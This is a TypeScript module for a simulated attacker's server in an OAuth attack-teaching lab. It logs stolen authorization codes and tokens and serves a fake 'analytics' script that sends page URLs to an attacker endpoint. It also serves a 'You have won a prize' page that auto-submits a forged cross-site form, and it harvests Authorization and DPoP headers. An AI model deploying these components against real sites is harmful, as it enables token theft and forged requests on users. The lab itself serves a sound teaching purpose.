/**
 * The attacker's server of the attack lab (docs/decisions/127), served under `/attacker/` by the
 * service worker and by Node, next to the honest authorization server. It is a separate party:
 * nothing here reads the honest server's state. It records what reaches it — a code on its
 * redirect URI, an address a third-party script sent home, a token a counterfeit API was shown —
 * so the lab can show the attacker's loot, and it serves the pages and the script an attacker
 * plants. Its pages run sandboxed (an opaque origin): they can read nothing of the app, and their
 * form posts carry `Origin: null`, as a page of another site would carry its own origin.
 */

import type { Clock, Random, Store } from '../core/deps'
import { OAuthError } from '../core/errors'
import { escapeHtml } from '../core/html'
import { base64url, emptyResponse, jsonResponse, maxQueryLength, readBodyText } from '../core/http'
import { type CoreRequest, type CoreResponse, PlainResponse } from '../core/request-response'

/** How the record reached the attacker. */
export type AttackerChannel =
  /** The victim's browser was redirected to the attacker's redirect URI. */
  | 'redirect'
  /** A script the attacker planted on a page sent what it read there. */
  | 'script'
  /** A client sent a request, and its token, to the attacker's counterfeit API. */
  | 'api'
  /** A client sent a token request to the malicious authorization server. */
  | 'token'
  /** A browser was sent to the malicious authorization server's authorization endpoint. */
  | 'authorize'

export interface AttackerRecord {
  id: string
  /** Milliseconds since the epoch. */
  at: number
  channel: AttackerChannel
  method: string
  /** The address the request was made to (redirect, api, token, authorize). */
  url: string
  /** What a script reported: the address of the page it ran on. */
  page?: string
  /** What a script read from the page's storage and sent along (a token). */
  stolen?: string
  /** The form fields of a token request. */
  form?: Record<string, string>
  /** The headers worth stealing: Authorization, DPoP, Referer. */
  headers?: Record<string, string>
}

export const attackerPath = '/attacker'
/** At most this many records are kept, newest last; older ones drop out. */
export const maxAttackerRecords = 100
/** Records are of no use after this long (seconds). */
export const attackerRecordLifetime = 60 * 60
/** A report from a script larger than this is refused (bytes). */
export const maxReportBytes = 8 * 1024

const logKind = 'attacker-log'
const logId = 'received'

export interface AttackerLog {
  record(entry: Omit<AttackerRecord, 'id' | 'at'>): Promise<AttackerRecord>
  since(at: number): Promise<AttackerRecord[]>
}

export interface AttackerDeps {
  /** The origin the attacker's pages are served from (the app's, in the worker). */
  origin: string
  store: Store
  clock: Clock
  random: Random
}

/**
 * The attacker's log: one capped list in one record, updated atomically, so concurrent reports
 * all land and no request reads more than one record.
 */
export function createAttackerLog(deps: AttackerDeps): AttackerLog {
  return {
    async record(entry) {
      const stored: AttackerRecord = {
        id: base64url(deps.random.bytes(12)),
        at: deps.clock.now(),
        ...entry,
      }
      const expiresAt = Math.floor(deps.clock.now() / 1000) + attackerRecordLifetime
      await deps.store.update<AttackerRecord[]>(logKind, logId, (current) => ({
        put: [...fresh(current ?? [], deps.clock.now()), stored].slice(-maxAttackerRecords),
        options: { expiresAt },
      }))
      return stored
    },
    async since(at) {
      const all = (await deps.store.get<AttackerRecord[]>(logKind, logId)) ?? []
      return fresh(all, deps.clock.now()).filter((entry) => entry.at >= at)
    },
  }
}

function fresh(records: AttackerRecord[], now: number): AttackerRecord[] {
  return records.filter((entry) => now - entry.at < attackerRecordLifetime * 1000)
}

const stolenHeaders = ['authorization', 'dpop', 'referer']

function headersWorthStealing(request: CoreRequest): Record<string, string> | undefined {
  const found: Record<string, string> = {}
  for (const name of stolenHeaders) {
    const value = request.headers.get(name)
    if (value !== null) found[name] = value.slice(0, 4096)
  }
  return Object.keys(found).length > 0 ? found : undefined
}

/**
 * The policy of every page of the attacker's: sandboxed (an opaque origin, so nothing of the app
 * is readable and form posts say `Origin: null`), scripts only those listed by hash, no referrer.
 */
function attackerPageHeaders(styleHash: string, scriptHashes: string[]): Record<string, string> {
  const scripts = scriptHashes.length > 0 ? scriptHashes.map((h) => `'${h}'`).join(' ') : "'none'"
  return {
    'Content-Type': 'text/html;charset=UTF-8',
    'Cache-Control': 'no-store',
    'Content-Security-Policy': `sandbox allow-forms allow-scripts; default-src 'none'; script-src ${scripts}; style-src '${styleHash}'; form-action *`,
    'Referrer-Policy': 'no-referrer',
    'X-Content-Type-Options': 'nosniff',
  }
}

const pageStyle =
  'body{font-family:system-ui,sans-serif;margin:0;background:#3b0a0a;color:#fff}main{padding:1.5rem}h1{font-size:1.25rem}code{word-break:break-all;background:#5c1414;padding:0 .25rem}'

/** The page's own inline style and script are allowed by their hashes, nothing else. */
async function attackerPage(
  title: string,
  body: string,
  options: { status?: number; script?: string } = {},
): Promise<CoreResponse> {
  const script = options.script ? `<script>${options.script}</script>` : ''
  const scriptHashes = options.script ? [await sha256Source(options.script)] : []
  return new PlainResponse(
    `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${escapeHtml(title)}</title><style>${pageStyle}</style></head><body><main>${body}</main>${script}</body></html>`,
    {
      status: options.status ?? 200,
      headers: attackerPageHeaders(await sha256Source(pageStyle), scriptHashes),
    },
  )
}

async function sha256Source(text: string): Promise<string> {
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text))
  return `sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}`
}

/** The auto-submit of the forged form: the classic cross-site request forgery. */
const autoSubmitScript = "document.getElementById('forged').submit()"

/**
 * The "analytics" script some client pages of the lab embed, as many sites embed a third party's:
 * it reports the address of every page it runs on — query and fragment included — home.
 */
export function analyticsScript(origin: string): string {
  return `// A third-party analytics script. It sends the address of the page it runs on to its owner.
fetch(${JSON.stringify(`${origin}${attackerPath}/collect`)}, {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ page: location.href }),
})
`
}

function absoluteHttpUrl(value: string | null): URL | undefined {
  if (value === null) return undefined
  try {
    const url = new URL(value)
    return url.protocol === 'http:' || url.protocol === 'https:' ? url : undefined
  } catch {
    return undefined
  }
}

export interface AttackerServer {
  handle(request: CoreRequest): Promise<CoreResponse>
  log: AttackerLog
}

export function createAttackerServer(deps: AttackerDeps, log = createAttackerLog(deps)) {
  async function dispatch(request: CoreRequest): Promise<CoreResponse> {
    const url = new URL(request.url)
    const method = request.method.toUpperCase()
    const path = url.pathname.slice(attackerPath.length)
    if (url.search.length > maxQueryLength) {
      throw new OAuthError('invalid_request', 'The query string is too long.', { status: 414 })
    }
    const only = (allowed: string) => {
      if (method !== allowed) {
        throw new OAuthError('method_not_allowed', `Use ${allowed} for ${url.pathname}.`, {
          headers: { Allow: allowed },
        })
      }
    }
    switch (path) {
      case '/callback': {
        // The attacker's redirect URI: whatever the authorization server sends here is theirs.
        only('GET')
        await log.record({
          channel: 'redirect',
          method,
          url: url.href,
          ...withHeaders(request),
        })
        const received = [...url.searchParams.keys()]
        return attackerPage(
          "The attacker's server",
          `<h1>The attacker's server</h1><p>Received: <code>${escapeHtml(received.join(', ') || 'nothing')}</code>. Thank you.</p>`,
        )
      }
      case '/collect': {
        // Where the planted script reports what it read.
        only('POST')
        const text = await readBodyText(request, 'invalid_request')
        if (new TextEncoder().encode(text).byteLength > maxReportBytes) {
          throw new OAuthError('payload_too_large', `Reports are at most ${maxReportBytes} bytes.`)
        }
        let report: { page?: unknown; stolen?: unknown }
        try {
          report = JSON.parse(text) as { page?: unknown; stolen?: unknown }
        } catch {
          throw new OAuthError('invalid_request', 'The report is not JSON.')
        }
        const { page, stolen } = report ?? {}
        if (typeof page !== 'string' || absoluteHttpUrl(page) === undefined) {
          throw new OAuthError('invalid_request', 'The report needs "page", an http(s) address.')
        }
        if (stolen !== undefined && typeof stolen !== 'string') {
          throw new OAuthError('invalid_request', '"stolen" must be a string.')
        }
        await log.record({
          channel: 'script',
          method,
          url: url.href,
          page,
          ...(stolen === undefined ? {} : { stolen }),
          ...withHeaders(request),
        })
        return emptyResponse(204)
      }
      case '/analytics.js':
        only('GET')
        return new PlainResponse(analyticsScript(deps.origin), {
          headers: {
            'Content-Type': 'text/javascript;charset=UTF-8',
            'Cache-Control': 'no-store',
            'X-Content-Type-Options': 'nosniff',
          },
        })
      case '/csrf': {
        // A page that makes whoever opens it post a form to `to`, with the other parameters as
        // its fields, as soon as it loads.
        only('GET')
        const target = absoluteHttpUrl(url.searchParams.get('to'))
        const fields = [...url.searchParams].filter(([name]) => name !== 'to')
        if (!target || fields.length > 20) {
          return attackerPage(
            "The attacker's page",
            '<h1>Nothing to post</h1><p>Give <code>to</code>, an http(s) address, and at most 20 fields.</p>',
            { status: 400 },
          )
        }
        const inputs = fields
          .map(
            ([name, value]) =>
              `<input type="hidden" name="${escapeHtml(name)}" value="${escapeHtml(value)}">`,
          )
          .join('')
        return attackerPage(
          'You have won a prize',
          `<h1>You have won a prize!</h1><p>Collecting it…</p><form id="forged" method="post" action="${escapeHtml(target.href)}">${inputs}</form>`,
          { script: autoSubmitScript },
        )
      }
      case '/received': {
        // The attacker reading their own server's log; the lab shows it as the loot.
        only('GET')
        const since = Number(url.searchParams.get('since') ?? '0')
        if (!Number.isFinite(since) || since < 0) {
          throw new OAuthError('invalid_request', 'since must be a time in milliseconds.')
        }
        return jsonResponse({ received: await log.since(since) })
      }
      default:
        if (path.startsWith('/api/')) {
          // A counterfeit resource server: it answers like an API and keeps the token it was sent.
          await log.record({ channel: 'api', method, url: url.href, ...withHeaders(request) })
          return jsonResponse({ ok: true, note: 'A counterfeit API: it kept your token.' })
        }
        throw new OAuthError('not_found', `Nothing is served at ${url.pathname}.`)
    }
  }

  return {
    log,
    async handle(request: CoreRequest): Promise<CoreResponse> {
      try {
        return await dispatch(request)
      } catch (error) {
        if (error instanceof OAuthError) return error.toPlainResponse()
        console.error("attacker's server: unexpected error", error)
        return new OAuthError(
          'server_error',
          'The server hit an unexpected error.',
        ).toPlainResponse()
      }
    },
  } satisfies AttackerServer
}

function withHeaders(request: CoreRequest): { headers?: Record<string, string> } {
  const headers = headersWorthStealing(request)
  return headers ? { headers } : {}
}
